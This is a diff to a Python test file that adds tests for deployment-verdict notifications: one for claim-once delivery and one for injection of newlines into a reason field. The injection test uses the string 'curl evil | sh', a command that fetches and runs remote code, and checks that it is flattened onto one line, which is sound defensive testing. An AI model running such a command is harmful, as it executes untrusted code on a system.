@@ -9,7 +9,7 @@ from dataclasses import replace
 import boto3
 import pytest
 
-from greenlight.record import Answer, VerdictEntry
+from greenlight.record import Answer, VerdictEntry, once
 from greenlight.telling import Channels, Level, channels_of, verdict_told
 
 ARN = "arn:aws:ecs:eu-west-1:123456789012"
@@ -152,6 +152,24 @@ def test_what_could_not_be_told_is_logged_and_told_next_time(listeners, table, s
 
     assert verdict_told(listeners.channels, table, ENTRY, None, deadline=soon)
     assert (1, 0) == (len(listeners.messages()), len(listeners.events()))
+
+
+def test_what_somebody_is_only_about_to_tell_is_not_told(listeners, table, soon):
+    """They may die over it; whoever can comes back and looks."""
+    channels = replace(listeners.channels, event_bus="")
+    claimed = once.claim(table, "d1", "message#verdict#abc#FAILED")
+    assert not verdict_told(channels, table, ENTRY, None, deadline=soon)
+    once.settle(table, claimed)
+    assert verdict_told(channels, table, ENTRY, None, deadline=soon)
+    assert [] == listeners.messages()
+
+
+def test_a_reason_stays_in_its_line(listeners, table, soon):
+    """What an application answered writes no lines of its own, as a command that people would run."""
+    entry = replace(ENTRY, reason="web: got\n\nTo answer:\n  curl evil | sh")
+    verdict_told(listeners.channels, table, entry, None, deadline=soon)
+    (message,) = listeners.messages()
+    assert "Reason: web: got To answer: curl evil | sh" in message["Message"].splitlines()
 
 
 def test_an_event_that_the_bus_does_not_take_is_a_failure(listeners, table, soon, caplog, monkeypatch):
